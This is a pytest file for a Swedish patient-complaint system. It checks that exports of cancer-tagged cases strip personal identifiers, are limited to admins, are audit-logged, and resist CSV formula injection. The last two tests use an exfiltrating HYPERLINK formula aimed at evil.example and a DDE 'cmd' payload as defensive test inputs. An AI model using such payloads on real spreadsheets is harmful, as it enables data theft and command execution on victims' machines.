"""De-identified export of tagged cases (e.g. cancer cases for the RCC)."""
from __future__ import annotations

import csv
import io
import json
import re

import pytest
from kg_testkit import JH_ADMIN, JH_HANDLER, PN_HANDLER, error_of

from backend.models import AuditEntry

FREE_TEXT = ("Min pappa Karl Andersson (19121212-1212, även skrivet 121212-1212 och 1212121212) fick fel "
             "cytostatika. Ring mig på 070-123 45 67 eller +46 70 123 45 67, eller mejla anna.andersson@example.se. "
             "Hans samordningsnummer 701063-2391 stod i remissen. Dr Berg sa att provet var normalt.")
OUTCOME = "Svar till anna.andersson@example.se eller 0701234567"

PERSONAL = ["19121212", "121212-1212", "1212121212", "070-123", "+46 70", "0701234567", "anna.andersson",
            "@example.se", "701063", "Anna Andersson", "Karl Andersson", "Andersson"]


async def export(kg, email=JH_ADMIN, **params):
    return await kg.client.get("/api/v1/officer/export/tagged", params={"tag": "cancer", **params},
                               headers=kg.auth(email))


@pytest.fixture
async def tagged(kg):
    a = await kg.new_case(tags=["cancer"], description=FREE_TEXT, desired_outcome=OUTCOME)
    b = await kg.new_case(description="Ingen cancer här")                      # not tagged
    c = await kg.new_case(recipient="patient_board", tags=["cancer"])          # another organisation
    d = await kg.new_case(patient={"personnummer": "701063-2391", "name": "Lisa Lund"}, reporter={"role": "patient",
                          "name": None}, description="Jag, Lisa Lund, väntade på svar om min biopsi.")
    await kg.ok(JH_HANDLER, d["reference"], "tags", {"tags": ["cancer"]})
    await kg.ok(JH_HANDLER, a["reference"], "categorise", {"subs": ["lakemedel"]})
    return a, b, c, d


async def test_export_contains_the_tagged_cases_of_the_own_organisation(kg, tagged):
    a, b, c, d = tagged
    r = await export(kg)
    assert r.status == 200
    data = await r.json()
    assert data["tag"] == "cancer"
    assert [x["reference"] for x in data["cases"]] == [a["reference"], d["reference"]]
    row = data["cases"][0]
    assert row["age_band"] == "80+" and row["gender"] == "male"
    assert row["officer_categories"] == ["lakemedel"]
    assert row["unit_hsa_id"] == "SE2321000207-E2100"
    assert row["verksamhetsomrade"] == "somatisk_specialistvard"
    assert "cytostatika" in row["description"]                  # the complaint itself is kept


async def test_export_has_no_names_or_personnummer(kg, tagged):
    data = await (await export(kg)).json()
    for row in data["cases"]:
        for key in row:
            assert not re.search(r"name|pnr|personnummer|email|phone|patient_age", key) or key == "unit_name", key
    text = json.dumps(data, ensure_ascii=False)
    for s in PERSONAL + ["Lisa Lund", "Lisa", "Lund,"]:
        assert s not in text, f"{s!r} in the export"
    row = data["cases"][0]
    assert "[personnummer]" in row["description"] and "[telefon]" in row["description"]
    assert "[e-post]" in row["description"] and "[e-post]" in row["desired_outcome"]
    assert "Dr Berg" in row["description"]                      # only the case's own people are known names


async def test_export_as_csv(kg, tagged):
    r = await export(kg, format="csv")
    assert r.status == 200 and r.headers["Content-Type"].startswith("text/csv")
    text = await r.text()
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 2 and rows[0]["age_band"] == "80+"
    for s in PERSONAL:
        assert s not in text


async def test_export_needs_an_admin(kg, tagged):
    for email in (JH_HANDLER, PN_HANDLER):
        r = await export(kg, email=email)
        assert r.status == 403
        assert (await error_of(r))["code"] == "forbidden"


@pytest.mark.parametrize("params,field", [({"tag": ""}, "tag"), ({"format": "pdf"}, "format"),
                                          ({"extra": "1"}, "extra")])
async def test_bad_export_requests(kg, params, field):
    r = await kg.client.get("/api/v1/officer/export/tagged", params={"tag": "cancer", **params},
                            headers=kg.auth(JH_ADMIN))
    assert r.status == 422
    assert field in (await error_of(r))["fields"]


async def test_export_is_audit_logged(kg, tagged):
    await export(kg)
    entries = await kg.rows(AuditEntry, AuditEntry.action == "export")
    assert len(entries) == 1 and entries[0].officer_email == JH_ADMIN and "cancer" in entries[0].detail


def test_scrub_unit():
    from backend.services.exports import scrub
    assert scrub(None) is None
    assert scrub("pnr 19121212-1212 slut") == "pnr [personnummer] slut"
    assert scrub("ring 08-123 456 78") == "ring [telefon]"
    assert scrub("x@y.se") == "[e-post]"
    assert scrub("Rum 12, 3 dagar, 2026-11-20") == "Rum 12, 3 dagar, 2026-11-20"   # ordinary numbers stay


def test_scrub_known_names():
    from backend.services.exports import scrub
    names = ["Karl Andersson", None, "Åsa Öberg"]
    assert scrub("Karl och KARL ANDERSSON", names) == "[namn] och [namn]"
    assert scrub("Karlsson och Anderssons", names) == "Karlsson och Anderssons"  # whole words only
    assert scrub("åsa öberg ringde", names) == "[namn] ringde"
    assert scrub("Ingen nämnd", ()) == "Ingen nämnd"


async def test_csv_cells_are_never_read_as_formulas(kg):
    """A free text that starts with = + - @ is written with a leading apostrophe (CSV injection)."""
    c = await kg.new_case(tags=["cancer"], description='=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
                          desired_outcome="@SUM(1+1)")
    r = await export(kg, format="csv")
    rows = list(csv.DictReader(io.StringIO(await r.text()), delimiter=";"))
    row = next(x for x in rows if x["reference"] == c["reference"])
    assert row["description"].startswith("'=HYPERLINK(")
    assert row["desired_outcome"] == "'@SUM(1+1)"


def test_safe_cell_and_the_statistics_csv():
    from backend.services.csv_cells import safe_cell
    from backend.services.stats import category_csv
    for bad in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("Vanlig text") == "Vanlig text" and safe_cell(-3) == -3 and safe_cell(None) is None
    text = category_csv({"rows": [{"level": "main", "code": "x", "label": "=cmd|' /C calc'!A0", "reported": 5,
                                   "handled": 5, "reported_share": 1.0, "handled_share": 1.0}], "total": 5})
    assert ";'=cmd|" in text and ";=cmd" not in text
